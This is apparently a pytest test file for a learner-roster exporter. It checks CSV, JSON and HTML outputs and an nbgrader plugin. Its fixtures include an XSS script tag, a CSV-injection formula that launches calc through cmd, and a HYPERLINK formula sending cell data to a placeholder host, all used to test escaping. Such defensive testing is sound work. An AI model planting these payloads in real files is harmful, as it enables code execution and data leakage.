"""The roster's files: CSV for HR/LMS import, JSON with the same fields, the self-contained HTML
report (rendered in headless Chromium), the insight CSVs, and the nbgrader exporter."""
from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import nbformat
import pytest

from labs.cli import main
from labs.roster import export
from labs.roster.feedback import feedback_cell
from labs.roster.report import RosterError, run_roster
from labs.roster.rules import STATUSES
from labs.roster.store import RosterStore
from tests.conftest import REPO
from tests.test_roster_rules import FULL_F, CourseBuilder, day

AS_OF = "2026-11-26"
XSS = '<script>console.error("xss")</script>'
# Text a spreadsheet would run as a formula (OWASP's CSV injection): from HR and from a learner.
FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_DEPARTMENT = "-2+3"
FORMULA_COMMENT = '=HYPERLINK("example.invalid/?"&A1,"details")'
# Every status, names with commas and quotes, markup in a name and a department, formulas.
COHORT = [
    ("ana", 'Okafor, Amara "Ama"', "Platform, Core", "software-engineer"),  # compliant
    ("ben", 'Ben "Benny" O\'Neil, Jr.', "Platform, Core", "software-engineer"),  # due-soon
    ("cat", "Cat Lee", 'R&D "Labs"', "software-engineer"),  # overdue
    ("dan", XSS, "<b>Data</b>", "ml-engineer"),  # in-progress
    ("eve", FORMULA_NAME, FORMULA_DEPARTMENT, "data-scientist"),  # not-started
    ("hal", "Hal Ito", "Security", "architect"),  # not in the gradebook
]


def build_cohort(root: Path) -> CourseBuilder:
    course = CourseBuilder(root)
    course.learners(*COHORT)
    course.gradebook.remove_student("hal")
    course.submit_all("cat", FULL_F, "2025-06-01")
    course.submit_all("ben", FULL_F, "2025-12-10")
    course.roster("2025-12-31")  # last year's roster recorded cat's and ben's completions
    course.submit_all("ana", FULL_F, "2026-10-01")
    course.submit("dan", "alpha", {"a-f1": 5}, "2026-11-01", needs_manual={"a-f2"})
    course.gradebook.update_or_create_student("zed", first_name="Zed", last_name="Zulu, Jr.")  # not in HR
    cell = feedback_cell()
    cell.source = cell.source.replace('"comments": ""', f'"comments": {json.dumps(FORMULA_COMMENT + " too long, " + XSS)}').replace(
        '"minutes_spent": None', '"minutes_spent": 95').replace('"difficulty": None', '"difficulty": 5')
    path = root / "autograded" / "dan" / "alpha" / "alpha.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(nbformat.v4.new_notebook(cells=[cell]), path)
    return course


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    root = tmp_path_factory.mktemp("roster") / "course"
    course = build_cohort(root)
    out = root / "out"
    roster = run_roster(course.gradebook, root, course.policy, day(AS_OF),
                        [out / "roster.csv", out / "roster.json", out / "roster.html"],
                        exercises_to=out / "exercises.csv", feedback_to=out / "feedback.csv")
    course.close()
    return roster, out


EXPECTED_STATUS = {"ana": "compliant", "ben": "due-soon", "cat": "overdue", "dan": "in-progress",
                   "eve": "not-started", "hal": "not-started", "zed": "not-started"}


def test_csv_round_trips_through_dictreader(outputs):
    roster, out = outputs
    with open(out / "roster.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == export.fields(roster)
    by_id = {row["learner_id"]: row for row in rows}
    assert {i: r["status"] for i, r in by_id.items()} == EXPECTED_STATUS
    names = {learner_id: name for learner_id, name, *_ in COHORT}
    for learner_id in names:
        # commas, quotes, markup intact; a formula gets its apostrophe (below)
        assert by_id[learner_id]["name"] == export.spreadsheet_safe(names[learner_id])
    assert by_id["ana"]["department"] == "Platform, Core"
    assert by_id["zed"]["name"] == "Zed Zulu, Jr."
    ben = by_id["ben"]
    assert (ben["completion_date"], ben["expiry"], ben["tier_achieved"]) == ("2025-12-10", "2026-12-10", "F")
    assert ben["score_sanitization"] == "100" and ben["score_governance"] == ""
    assert by_id["dan"]["score_sanitization"] == "25"  # 5 of 20 at tier A and by_id["dan"]["required_tier"] == "A"
    assert by_id["dan"]["score_robustness"] == "0"
    assert by_id["dan"]["flags"] == "needs manual grade: alpha"
    assert by_id["zed"]["flags"] == "not in HR directory"
    assert by_id["hal"]["flags"] == "not registered in gradebook"
    assert by_id["eve"]["completion_date"] == "" and by_id["eve"]["curriculum_version"] == "test.1"
    # ISO dates only; every record on its own CRLF line, as RFC 4180 has it.
    assert all(re.fullmatch(r"(\d{4}-\d{2}-\d{2})?", r[k]) for r in rows for k in ("completion_date", "expiry"))
    raw = (out / "roster.csv").read_bytes()
    assert raw.count(b"\r\n") == len(rows) + 1 and b'"Okafor, Amara ""Ama"""' in raw


def test_json_has_the_same_fields_and_values(outputs):
    roster, out = outputs
    document = json.loads((out / "roster.json").read_text(encoding="utf-8"))
    with open(out / "roster.csv", newline="", encoding="utf-8") as handle:
        csv_rows = {row["learner_id"]: row for row in csv.DictReader(handle)}
    assert document["as_of"] == AS_OF and document["fields"] == export.fields(roster)
    assert document["summary"]["by_status"] == {s: list(EXPECTED_STATUS.values()).count(s) for s in STATUSES}
    for learner in document["learners"]:
        assert list(learner) == export.fields(roster)
        row = csv_rows[learner["learner_id"]]
        for key, value in learner.items():
            if isinstance(value, list):
                assert "; ".join(value) == row[key]
            elif isinstance(value, float):
                assert float(row[key]) == value
            else:
                assert export.spreadsheet_safe("" if value is None else str(value)) == row[key]


def test_html_is_self_contained_and_escaped(outputs):
    _, out = outputs
    page = (out / "roster.html").read_text(encoding="utf-8")
    for external in ("http://", "https://", "src=", "href=", "@import", "url(", "<link", "<script"):
        assert external not in page.lower(), external
    assert "&lt;script&gt;console.error(&quot;xss&quot;)&lt;/script&gt;" in page
    assert "&lt;b&gt;Data&lt;/b&gt;" in page and "R&amp;D &quot;Labs&quot;" in page


def test_insight_csvs(outputs):
    roster, out = outputs
    with open(out / "exercises.csv", newline="") as handle:
        exercises = {row["grade_id"]: row for row in csv.DictReader(handle)}
    assert list(exercises) == ["a-f1", "a-f2", "a-a1", "b-f1", "b-a1", "g-g1"]
    # a-f1: full marks for ana, ben, cat, dan; a-f2: ana, ben, cat of 4; gamma: never handed in.
    assert exercises["a-f1"]["graded_submissions"] == "4" and exercises["a-f1"]["pass_rate"] == "1.000"
    assert exercises["a-f2"]["full_marks"] == "3" and exercises["a-f2"]["pass_rate"] == "0.750"
    assert exercises["a-a1"]["pass_rate"] == "0.000" and exercises["g-g1"]["pass_rate"] == ""
    with open(out / "feedback.csv", newline="") as handle:
        [feedback] = list(csv.DictReader(handle))
    assert feedback == {"learner_id": "dan", "assignment": "alpha", "minutes_spent": "95", "difficulty": "5",
                        "comments": f"'{FORMULA_COMMENT} too long, {XSS}"}


def test_text_that_a_spreadsheet_would_run_stays_text(outputs):
    """No CSV cell begins with a formula trigger: such text gets OWASP's leading apostrophe, and
    only such text; the JSON keeps it exactly."""
    _, out = outputs
    cells = []
    for name in ("roster.csv", "exercises.csv", "feedback.csv"):
        with open(out / name, newline="", encoding="utf-8") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(export.FORMULA_TRIGGERS)]
    assert {"'" + FORMULA_NAME, "'" + FORMULA_DEPARTMENT} <= set(cells)
    assert [cell for cell in cells if cell.startswith("'")] == ["'" + FORMULA_NAME, "'" + FORMULA_DEPARTMENT,
                                                              f"'{FORMULA_COMMENT} too long, {XSS}"]
    learners = {row["learner_id"]: row for row in json.loads((out / "roster.json").read_text())["learners"]}
    assert (learners["eve"]["name"], learners["eve"]["department"]) == (FORMULA_NAME, FORMULA_DEPARTMENT)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_trigger_is_neutralised(text):
    assert export.spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Eve Ng", "R&D - Labs", "a=b", "'quoted", "1.5"])
def test_other_text_is_left_as_written(text):
    assert export.spreadsheet_safe(text) == text


def test_unknown_format_is_refused_before_anything_is_recorded(tmp_path):
    course = CourseBuilder(tmp_path / "c")
    course.learners(("ana", "Ana", "X", "software-engineer"))
    course.submit_all("ana", FULL_F, "2026-03-01")
    with pytest.raises(RosterError, match="roster.xlsx"):
        run_roster(course.gradebook, course.root, course.policy, day(AS_OF), [tmp_path / "roster.xlsx"])
    with RosterStore(course.policy.ledger_url) as store:
        assert store.completions() == {}
    course.close()


# ---------------------------------------------------------------------------------------------
# Headless Chromium

def chromium() -> str:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        if shutil.which(name):
            return shutil.which(name)
    pytest.fail("Chromium is needed to test the HTML roster: install Debian's package with "
                "`apt-get install -y chromium` (.ci/run does this)")


def render(page: Path, screenshot: Path | None = None) -> tuple[str, list[str]]:
    """The DOM Chromium builds from ``page`` and the console messages it logged."""
    with tempfile.TemporaryDirectory(prefix="chromium-") as profile:
        args = [chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run", f"--user-data-dir={profile}",
                "--enable-logging=stderr", "--v=0"]
        if screenshot:
            subprocess.run([*args, f"--screenshot={screenshot}", "--window-size=1200,3000", page.as_uri()],
                           capture_output=True, timeout=120)
        result = subprocess.run([*args, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr[-3000:]
    console = [line for line in result.stderr.splitlines() if ":CONSOLE" in line or "Uncaught" in line]
    return result.stdout, console


def test_the_console_check_would_catch_an_error(tmp_path):
    page = tmp_path / "broken.html"
    page.write_text("<!DOCTYPE html><title>x</title><script>console.error('boom'); undefinedFunction();</script>")
    _, console = render(page)
    assert any("boom" in line for line in console), console


def test_html_renders_in_headless_chromium(outputs):
    _, out = outputs
    screenshot = os.environ.get("ROSTER_SCREENSHOT")  # set it to look at the page yourself
    dom, console = render(out / "roster.html", Path(screenshot) if screenshot else None)
    assert console == [], console
    assert 'id="total-learners">7<' in dom
    for status, count in {"compliant": 1, "due-soon": 1, "overdue": 1, "in-progress": 1, "not-started": 3}.items():
        assert f'id="count-{status}">{count}<' in dom, status
    assert '<td class="num" data-tier="A" data-status="in-progress">1</td>' in dom
    assert 'id="list-overdue" data-count="1"' in dom and 'id="list-due-soon" data-count="1"' in dom
    assert 'id="not-in-directory">1<' in dom and 'id="not-in-gradebook">1<' in dom
    assert 'id="feedback-count" data-count="1"' in dom
    assert "<svg" in dom and "Competency heatmap" in dom
    assert "<script>console" not in dom  # the name was text, never markup


# ---------------------------------------------------------------------------------------------
# One implementation, two entry points: `labs roster` and `nbgrader export --exporter ...`

def test_nbgrader_exporter_and_labs_roster_agree(tmp_path, capsys):
    root = tmp_path / "course"
    build_cohort(root).close()
    (root / "source").mkdir()
    config = (REPO / "nbgrader_config.py").read_text() + '\nc.RosterPolicy.manifest_path = "curriculum.toml"\n'
    (root / "nbgrader_config.py").write_text(config)
    env = dict(os.environ, PATH=os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")]))
    result = subprocess.run([sys.executable, "-m", "nbgrader", "export", "--exporter=labs.roster.RosterExportPlugin",
                             "--to", "exported.csv", f"--RosterExportPlugin.as_of={AS_OF}",
                             "--RosterExportPlugin.exercises_to=exercises.csv"],
                            cwd=root, capture_output=True, text=True, env=env, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Proficiency roster as of 2026-11-26" in result.stderr  # nbgrader logs the summary
    assert (root / "exercises.csv").exists()

    assert main(["--course-dir", str(root), "roster", "--to", str(root / "labs.csv"), "--as-of", AS_OF]) == 0
    printed = capsys.readouterr().out
    assert "compliant 1, due-soon 1, overdue 1, in-progress 1, not-started 3" in printed
    assert (root / "exported.csv").read_bytes() == (root / "labs.csv").read_bytes()

    assert main(["--course-dir", str(root), "roster", "--to", str(root / "x.csv"), "--as-of", "26/11/2026"]) == 2
    assert "--as-of must be a date like" in capsys.readouterr().err
